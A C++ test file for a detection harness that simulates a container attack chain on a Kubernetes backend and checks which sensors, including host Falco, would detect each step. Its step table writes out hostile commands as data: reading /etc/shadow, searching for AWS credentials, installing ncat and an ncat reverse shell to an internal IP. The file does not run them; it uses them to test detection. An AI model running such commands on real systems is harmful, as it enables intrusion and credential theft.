// `harness run scenarios/blog-demo.yaml --backend kube` end to end through the real
// orchestrator, a real sandwatch-receiver on loopback, the common scorer and the report
// writers. Only the cluster is played by the fake kubectl: when a pod is applied its
// "sensor" posts a heartbeat, and when attack-sim runs, the events a sensor sidecar and
// host Falco would send for those steps are posted to the receiver (Falco only for the
// runc pod: it cannot see into the Kata VM). Checks that kube results have the same
// files and the same summary shape as local ones, with backend "kube".
#include <gtest/gtest.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <thread>

#include "../../src/kube/kube_internal.h"
#include "fake_kube.h"
#include "sandwatch/core/clock.h"
#include "sandwatch/core/event.h"
#include "sandwatch/core/ground_truth.h"
#include "sandwatch/harness/backend.h"
#include "sandwatch/harness/command_runner.h"
#include "sandwatch/harness/receiver_client.h"
#include "sandwatch/harness/run.h"
#include "test_util.h"

namespace sandwatch::harness::kube::testing {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

struct Step {
  const char* step;
  const char* signal;
  const char* falco_rule;
  std::vector<std::string> argv;
};

const std::vector<Step> kChain = {
    {"shell", "unexpected_shell", "Terminal shell in container", {"bash", "-i"}},
    {"shadow", "shadow_file_access", "Read sensitive file untrusted", {"cat", "/etc/shadow"}},
    {"aws-creds",
     "aws_credential_discovery",
     "Find AWS Credentials",
     {"find", "/", "-path", "*/.aws/credentials"}},
    {"package-install",
     "package_manager_execution",
     "Launch Package Management Process in Container",
     {"dpkg", "-i", "/var/cache/sandwatch/debs/ncat.deb"}},
    {"new-binary",
     "post_start_binary_execution",
     "Drop and execute new binary in container",
     {"ncat", "--version"}},
    {"reverse-shell",
     "nc_execution",
     "Netcat Remote Code Execution in Container",
     {"ncat", "--exec", "/bin/sh", "10.96.44.4", "4444"}},
};

class KubeRunTest : public ::testing::Test {
 protected:
  void SetUp() override {
    const std::string receiver = BinDir() + "/sandwatch-receiver";
    if (!fs::exists(receiver)) GTEST_SKIP() << receiver << " not built";
    real_ = MakeProcessRunner();
    auto port = PickFreeLoopbackPort();
    ASSERT_TRUE(port.ok());
    base_ = "http://127.0.0.1:" + std::to_string(*port);
    CommandSpec spec;
    spec.argv = {receiver, "--listen", "127.0.0.1:" + std::to_string(*port), "--db", ":memory:"};
    auto started = real_->Start(spec);
    ASSERT_TRUE(started.ok()) << started.error().message;
    receiver_ = std::move(*started);
    ReceiverClient client(base_);
    for (int i = 0; i < 100 && !client.Healthy(); ++i) {
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    }
    ASSERT_TRUE(client.Healthy()) << "receiver did not start";
    out_ = MakeTempDir("sw-kube-run");
    ASSERT_FALSE(out_.empty());
    http_ = MakeHttpClient(std::chrono::milliseconds(3000));
  }
  void TearDown() override {
    if (receiver_) receiver_->Stop(std::chrono::milliseconds(2000));
    if (!out_.empty()) fs::remove_all(out_);
  }

  void Post(const std::string& path, const std::string& body) {
    auto r = http_->Post(base_ + path, body, "application/json");
    ASSERT_TRUE(r.ok()) << r.error().message;
    ASSERT_EQ(r->status / 100, 2) << path << ": " << r->body;
  }

  // What the cluster does in reply to a kubectl command.
  void PlayCluster(FakeKubectl& k, const std::string& key, const CommandSpec& spec) {
    if (key == "apply -f -") {
      const json pod = json::parse(spec.stdin_data);
      const std::string name = pod["metadata"]["name"];
      Heartbeat hb;
      hb.sensor = {"sensor-" + name, name == "kata-app" ? "kata" : "sidecar", "poll", "test"};
      hb.time_ns = SystemClock().WallNs();
      hb.interval_s = 5;
      hb.pod = name;
      hb.ns = "kata-demo";
      Post("/heartbeat", HeartbeatToJson(hb).dump());
      return;
    }
    for (const std::string pod : {"normal-app", "kata-app"}) {
      if (key.rfind("exec " + pod + " -c app -- sandwatch-attack-sim run", 0) != 0) continue;
      const int64_t t0 = SystemClock().WallNs();
      std::string gt;
      json events = json::array();
      for (size_t i = 0; i < kChain.size(); ++i) {
        GroundTruthStep s;
        s.run_id = "gt";
        s.step = kChain[i].step;
        s.signal = kChain[i].signal;
        s.signals = {kChain[i].signal};
        s.variant = "default";
        s.speed = "blog";
        s.command = kChain[i].argv;
        s.pid = 200 + static_cast<int>(i);
        s.start_wall_ns = t0 + static_cast<int64_t>(i) * 1'000'000;
        s.end_wall_ns = s.start_wall_ns + 500'000;
        s.hold_ms = 0.5;
        gt += GroundTruthToJson(s).dump() + "\n";

        Event e;  // what the sensor sidecar reports for the step
        e.id = "00000000-0000-4000-8000-" + std::string(pod == "kata-app" ? "1" : "2") +
               std::string(10, '0') + std::to_string(i);
        e.seq = i + 1;
        e.time_ns = s.start_wall_ns + 200'000;
        e.rule = s.signal;
        e.output = "test";
        e.sensor = {"sensor-" + pod, pod == "kata-app" ? "kata" : "sidecar", "poll", "test"};
        e.pod = pod;
        e.ns = "kata-demo";
        ProcessRef p;
        p.pid = s.pid;
        p.name = s.command[0];
        p.cmdline = s.command;
        e.process = p;
        events.push_back(EventToJson(e));

        if (pod == "normal-app") {  // host Falco sees the runc pod's processes
          json f = {{"rule", kChain[i].falco_rule},
                    {"priority", "Warning"},
                    {"output", "test"},
                    {"source", "syscall"},
                    {"time", FormatRfc3339(s.start_wall_ns + 300'000)},
                    {"output_fields",
                     {{"k8s.pod.name", pod},
                      {"k8s.ns.name", "kata-demo"},
                      {"proc.pid", 40000 + i},
                      {"proc.cmdline",
                       [&] {
                         std::string c;
                         for (const auto& a : s.command) c += (c.empty() ? "" : " ") + a;
                         return c;
                       }()},
                      {"proc.name", s.command[0]},
                      {"proc.pname", "bash"},
                      {"proc.aname[2]", "sandwatch-attac"}}}};
          Post("/falco", f.dump());
        }
      }
      Post("/events", events.dump());
      k.Answer("exec " + pod + " -c app -- cat /tmp/sandwatch-ground-truth-", gt);
    }
  }

  std::unique_ptr<CommandRunner> real_;
  std::unique_ptr<ProcessHandle> receiver_;
  std::unique_ptr<HttpClient> http_;
  std::string base_;
  std::string out_;
};

TEST_F(KubeRunTest, BlogDemoOnTheKubeBackendWritesTheSameResultsAsLocal) {
  FakeKubectl k;
  k.source_dir = SourceDir();
  AnswerHealthyCluster(k, "");
  k.on_run = [&](const std::string& key, const CommandSpec& spec) { PlayCluster(k, key, spec); };

  BackendRegistry reg;
  const std::string base = base_;
  reg.Register("kube", [base](CommandRunner& runner) {
    KubeConfig cfg;
    cfg.receiver_url = base;  // the "NodePort"
    KubeDeps deps;
    deps.sleep = [](std::chrono::milliseconds) {};  // no need to wait for late events here
    deps.source_dir = SourceDir();
    return MakeKubeBackend(runner, cfg, std::move(deps));
  });
  RunOptions opts;
  opts.scenario_path = SourceDir() + "/scenarios/blog-demo.yaml";
  opts.backend = "kube";
  opts.out_dir = out_;
  opts.quiet = true;
  auto run = RunScenario(opts, reg, k, SystemClock());
  ASSERT_TRUE(run.ok()) << run.error().message;
  EXPECT_TRUE(run->all_cells_ok);
  EXPECT_TRUE(run->finding_holds) << run->table;

  for (const char* f : {"summary.json", "report.md", "report.html", "events.jsonl",
                        "ground-truth.jsonl", "environment.json"}) {
    EXPECT_TRUE(fs::exists(out_ + "/" + f)) << f;
  }
  const json summary = json::parse(ReadFile(out_ + "/summary.json"));
  EXPECT_EQ(summary["backend"], "kube");
  int rows = 0;
  for (const auto& c : summary["coverage"]) {
    ++rows;
    // On kube both host-side columns (host-view and falco) are the node's Falco: blind in the VM.
    const bool host_view_in_vm =
        (c["observer"] == "host-view" || c["observer"] == "falco") && c["runtime"] == "kata-qemu";
    EXPECT_EQ(c["detected"].get<bool>(), !host_view_in_vm) << c.dump();
    EXPECT_EQ(c["expected"].get<bool>(), !host_view_in_vm) << c.dump();
  }
  EXPECT_EQ(rows, 2 * 3 * 6) << summary["coverage"].dump();  // runtimes x observers x signals
  const json env = json::parse(ReadFile(out_ + "/environment.json"));
  EXPECT_NE(env.dump().find("kube.pod_kernel.kata-app"), std::string::npos) << env.dump();
  std::printf("%s\n", run->table.c_str());
}

}  // namespace
}  // namespace sandwatch::harness::kube::testing
